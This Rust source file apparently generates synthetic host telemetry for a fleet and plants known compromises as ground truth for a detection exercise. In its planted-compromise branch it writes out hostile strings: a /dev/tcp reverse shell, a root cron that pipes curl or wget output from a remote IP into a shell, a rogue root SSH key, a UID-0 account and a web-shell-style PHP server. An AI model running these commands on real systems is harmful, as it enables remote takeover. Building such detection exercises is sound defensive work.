        listener(&resolved_pid, 53, "17", "127.0.0.53", "systemd-resolve", "/usr/lib/systemd/systemd-resolved"),
        listener(&resolved_pid, 53, "6", "127.0.0.53", "systemd-resolve", "/usr/lib/systemd/systemd-resolved"),
        listener(&consul_pid, 8301, "6", &own_ip, "consul", "/usr/local/bin/consul"),
        listener(&consul_pid, 8301, "17", &own_ip, "consul", "/usr/local/bin/consul"),
        listener(&consul_pid, 8500, "6", "127.0.0.1", "consul", "/usr/local/bin/consul"),
    ];
    if canary {
        ports.push(listener(&envoy_pid, 15000, "6", "0.0.0.0", "envoy", "/usr/local/bin/envoy"));
    }

    // cron: configuration management jitters the backup minute per host.
    let mut crons = vec![
        cron("17", "*", "root    cd / && run-parts --report /etc/cron.hourly", "/etc/crontab"),
        cron(
            "25",
            "6",
            "root\ttest -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }",
            "/etc/crontab",
        ),
        cron(
            "47",
            "6",
            "root\ttest -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.weekly; }",
            "/etc/crontab",
        ),
        cron(
            "30",
            "3",
            "root test -e /run/systemd/system || SERVICE_MODE=1 /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron",
            "/etc/cron.d/e2scrub_all",
        ),
        cron(
            &c.rng.random_range(0..60).to_string(),
            "2",
            "app /opt/app/bin/backup.sh --s3 s3://backups/app",
            "/etc/cron.d/app-backup",
        ),
        cron("*/5", "*", "root /usr/local/bin/rotate-app-logs", "/etc/cron.d/logs"),
    ];

    // keys: the team's keys for ec2-user; AWS's default refusal for root.
    let mut keys = vec![
        key_row(1000, "ec2-user", "/home/ec2-user/.ssh/authorized_keys", "", &team_key("deploy"), "deploy@ci"),
        key_row(1000, "ec2-user", "/home/ec2-user/.ssh/authorized_keys", "", &team_key("alice"), "alice@laptop"),
        key_row(1000, "ec2-user", "/home/ec2-user/.ssh/authorized_keys", "", &team_key("bob"), "bob@laptop"),
        key_row(
            0,
            "root",
            "/root/.ssh/authorized_keys",
            "no-port-forwarding,no-agent-forwarding,no-X11-forwarding,command=\"echo 'Please login as the user \\\"ec2-user\\\" rather than the user \\\"root\\\".';echo;sleep 10;exit 142\"",
            &team_key("deploy"),
            "deploy@ci",
        ),
    ];

    // The next image (the canary's) has a newer curl package.
    let mut hashes: Vec<Row> = SYSTEM_BINARIES
        .iter()
        .map(|p| {
            let version = if canary && *p == "/usr/bin/curl" { "/usr/bin/curl 8.5" } else { p };
            row(&[("path", p.to_string()), ("sha256", image_hash(version)), ("package_check", "ok".into())])
        })
        .collect();
    let app_version = if canary { "app-1.5.0" } else { "app-1.4.2" };
    hashes.push(row(&[
        ("path", "/opt/app/app.jar".into()),
        ("sha256", image_hash(app_version)),
        ("package_check", "unpackaged".into()),
    ]));

    let suid: Vec<Row> = SUID
        .iter()
        .map(|p| {
            row(&[
                ("path", p.to_string()),
                ("username", "root".into()),
                ("groupname", "root".into()),
                ("permissions", "-rwsr-xr-x".into()),
            ])
        })
        .collect();
    let canary_units: &[&str] = if canary { &["envoy.service"] } else { &[] };
    let startup: Vec<Row> = SERVICES
        .iter()
        .chain(canary_units)
        .map(|s| {
            row(&[
                ("name", s.to_string()),
                ("path", format!("/usr/lib/systemd/system/{s}")),
                ("source", "/etc/systemd/system/multi-user.target.wants".into()),
                ("status", "enabled".into()),
            ])
        })
        .collect();
    let mut history = Vec::new();

    // Per-host noise events.
    let mut failed: Option<&str> = None;
    if spec.noise {
        if c.rng.random_bool(0.6) {
            history.push(row(&[("username", "root".into()), ("history_file", "/root/.bash_history".into())]));
        }
        if c.rng.random_bool(0.3) {
            history
                .push(row(&[("username", "ec2-user".into()), ("history_file", "/home/ec2-user/.bash_history".into())]));
        }
        // A health check caught mid-run on a fifth of the hosts.
        if c.rng.random_bool(0.2) {
            procs.push(c.process("1", 0, "sh", "/usr/bin/dash", "/bin/sh -c /usr/local/bin/healthcheck.sh"));
            let n = c.rng.random_range(1..30);
            procs.push(c.process("1", 0, "sleep", "/usr/bin/sleep", &format!("sleep {n}")));
        }
        if c.rng.random_bool(0.05) {
            procs.push(c.process(
                "1",
                0,
                "logrotate",
                "/usr/sbin/logrotate",
                "/usr/sbin/logrotate /etc/logrotate.conf",
            ));
        }
        if c.rng.random_bool(0.02) {
            procs.push(c.process(
                "1",
                0,
                "unattended-upgr",
                "/usr/bin/python3.11",
                "/usr/bin/python3 /usr/bin/unattended-upgrade --download-only",
            ));
            procs.push(c.process("1", 0, "apt-get", "/usr/bin/apt-get", "/usr/bin/apt-get -qq update"));
        }
        // An admin logged in on a few hosts.
        if c.rng.random_bool(0.03) {
            let user = ["alice", "bob"].choose(&mut c.rng).unwrap();
            procs.push(c.process(&sshd_pid, 0, "sshd", "/usr/sbin/sshd", "sshd: ec2-user [priv]"));
            procs.push(c.process(&sshd_pid, 1000, "sshd", "/usr/sbin/sshd", "sshd: ec2-user@pts/0"));
            procs.push(c.process(&sshd_pid, 1000, "bash", "/usr/bin/bash", "-bash"));
            if c.rng.random_bool(0.5) {
                procs.push(c.process(
                    &sshd_pid,
                    0,
                    "sudo",
                    "/usr/bin/sudo",
                    &format!("sudo journalctl -u app --since -1h # {user}"),
                ));
            }
        }
        // Someone listed the firewall: the kernel loaded its modules on demand.
        if c.rng.random_bool(0.01) {
            kmods.push(row(&[
                ("name", "iptable_mangle".into()),
                ("size", "12288".into()),
                ("used_by", "0".into()),
                ("status", "Live".into()),
                ("address", "0xffffffffc0a20000".into()),
            ]));
        }
        // An engineer's debug job, left behind on one host in a hundred.
        if c.rng.random_bool(0.01) {
            crons.push(cron(
                "0",
                "*",
                "root /usr/local/bin/dump-app-threads.sh > /var/log/app/threads.log 2>&1",
                "/etc/cron.d/debug",
            ));
        }
        // Queries that timed out on a few hosts; never the one that holds
        // what was planted, so that the truth stays checkable.
        if c.rng.random_bool(0.01) {
            let q = ["suid_bin", "file_hashes", "startup_items"].choose(&mut c.rng).unwrap();
            if planted.is_none_or(|(k, _)| k.query() != *q) {
                failed = Some(q);
            }
        }
    }

    // The planted compromise, with artifacts of its own; a campaign's are
    // the same on every host it reached (only pids and times differ).
    let mut art = match planted {
        Some((_, Some(n))) => SmallRng::seed_from_u64(splitmix(spec.seed ^ 0xca3a_1900 ^ n as u64)),
        _ => SmallRng::seed_from_u64(c.rng.random()),
    };
    match planted.map(|(k, _)| k) {
        Some(Compromise::ReverseShell) => {
            let ip = format!("203.0.113.{}", art.random_range(2..250));
            let port = [4444, 443, 8443, 9001, 1337].choose(&mut art).unwrap();
            let sh = c.process(
                &nginx_pid,
                33,
                "sh",
                "/usr/bin/dash",
                "sh -c bash -c 'bash -i >& /dev/tcp/IP/PORT 0>&1'"
                    .replace("IP", &ip)
                    .replace("PORT", &port.to_string())
                    .as_str(),
            );
            let pid = sh["pid"].clone();
            procs.push(sh);
            procs.push(c.process(&pid, 33, "bash", "/usr/bin/bash", "bash -i"));
        }
        Some(Compromise::TmpListener) => {
            let dir = [".ICE-unix/.x", ".font-unix/.cache", ".X11-unix/..."].choose(&mut art).unwrap();
            let name = ["srv", "dbus", "kthreadd", "agent"].choose(&mut art).unwrap();
            let port = art.random_range(40000..60000);
            let path = format!("/tmp/{dir}/{name}");
            let pr = c.process("1", 33, name, &path, &format!("{path} -l {port}"));
            ports.push(listener(&pr["pid"], port, "6", "0.0.0.0", name, &path));
            procs.push(pr);
        }
        Some(Compromise::MaliciousCron) => {
            let ip = format!("198.51.100.{}", art.random_range(2..250));
            let script = ["ld.sh", "x.sh", "update.sh", "i.sh"].choose(&mut art).unwrap();
            let cmd = if art.random_bool(0.5) {
                format!("curl -fsSL http://{ip}/{script} | sh")
            } else {
                format!("wget -q -O - http://{ip}/{script} | bash > /dev/null 2>&1")
            };
            let mut row = cron(&format!("*/{}", art.random_range(2..15)), "*", &cmd, "/var/spool/cron/crontabs/root");
            row.insert("event".into(), String::new());
            crons.push(row);
        }
        Some(Compromise::KernelModule) => {
            let name = ["ipv6_helper", "crc_tune", "nvme_fastpath", "vmw_balloon_ext", "intel_pstate_x", "acpi_extra"]
                .choose(&mut art)
                .unwrap();
            kmods.push(row(&[
                ("name", name.to_string()),
                ("size", "16384".into()),
                ("used_by", "0".into()),
                ("status", "Live".into()),
                ("address", "0xffffffffc0b40000".into()),
            ]));
        }
        Some(Compromise::RootKey) => {
            let key = format!("AAAAB3NzaC1yc2EAAAADAQABAAABgQ{}", b64(&mut art, 300));
            let comment = ["root@kali", "", "user@DESKTOP-7Q2B1", "x"].choose(&mut art).unwrap();
            keys.push(key_row(0, "root", "/root/.ssh/authorized_keys", "", &key, comment));
        }
        Some(Compromise::Uid0User) => {
            let name = ["sysadm", "toor", "backup2", "admin"].choose(&mut art).unwrap();
            users.push(row(&[
                ("username", name.to_string()),
                ("uid", "0".into()),
                ("gid", "0".into()),
                ("description", String::new()),
                ("directory", "/root".into()),
                ("shell", "/bin/bash".into()),
            ]));
        }
        Some(Compromise::ModifiedBinary) => {
            let target = ["/usr/bin/sudo", "/usr/sbin/sshd", "/usr/bin/ls", "/usr/bin/ps", "/usr/bin/login"]
                .choose(&mut art)
                .unwrap();
            for h in &mut hashes {
                if h["path"] == *target {
                    h.insert("sha256".into(), hex(&mut art, 64));
                    // Replaced after installation: its package's checksum no longer matches.
                    h.insert("package_check".into(), "mismatch".into());
                }
            }
        }
        Some(Compromise::WebShell) => {
            let port = *[8888, 8081, 9090, 8000, 31337].choose(&mut art).unwrap();
            let dir = ["uploads", "assets/img", "wp-content/cache"].choose(&mut art).unwrap();
            let cmd = format!("php -S 0.0.0.0:{port} -t /var/www/html/{dir}");
            let pr = c.process(&nginx_pid, 33, "php", "/usr/bin/php8.2", &cmd);
            ports.push(listener(&pr["pid"], port, "6", "0.0.0.0", "php", "/usr/bin/php8.2"));
            procs.push(pr);
        }
        None => {}
    }

    procs.shuffle(&mut c.rng);
    r.insert("processes", procs);
    r.insert("listening_ports", ports);
    r.insert("crontab", crons);
    r.insert("kernel_modules", kmods);
    r.insert("users", users);
    r.insert("authorized_keys", keys);
    r.insert("file_hashes", hashes);
    r.insert("shell_history", history);
    r.insert("suid_bin", suid);
    r.insert("startup_items", startup);
    let mut results: BTreeMap<String, serde_json::Value> =
        r.into_iter().map(|(k, v)| (k.to_string(), serde_json::to_value(v).expect("rows serialise"))).collect();
    if let Some(q) = failed {
        results.insert(q.to_string(), serde_json::json!({"error": "query timed out after 30s"}));
    }
    let mut labels = BTreeMap::new();
    if spec.labels {
        labels.insert("instance_type".into(), if other_type { "c5n.xlarge" } else { "m5.large" }.into());
        labels.insert("launch_template_version".into(), if canary { "8" } else { "7" }.into());
        labels.insert("image_id".into(), if canary { "ami-0c0ffee0000000008" } else { "ami-0c0ffee0000000007" }.into());
        // The old version's hosts were launched over weeks; the canary in the last half hour.
        let launched = if canary { 1_765_200_000 + (boot % 1800) } else { boot };
        let at = chrono::DateTime::from_timestamp(launched as i64, 0).expect("a time in range");
        labels.insert("launch_time".into(), at.to_rfc3339_opts(chrono::SecondsFormat::Secs, true));
    }
    SimHost { instance_id: id.to_string(), labels, results }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn deterministic_and_planted() {
        let spec = FleetSpec::new(60, 7);
        let (a, ta) = generate(&spec);
        let (b, _) = generate(&spec);
        assert_eq!(serde_json::to_string(&a[3]).unwrap(), serde_json::to_string(&b[3]).unwrap());
        assert_eq!(ta.compromised.len(), Compromise::ALL.len());
        assert_eq!(ta.canary.len(), 6);
        let rows: usize = a[0].results.values().map(|v| v.as_array().map_or(0, Vec::len)).sum();
        assert!((250..450).contains(&rows), "{rows} rows per host");
    }
}
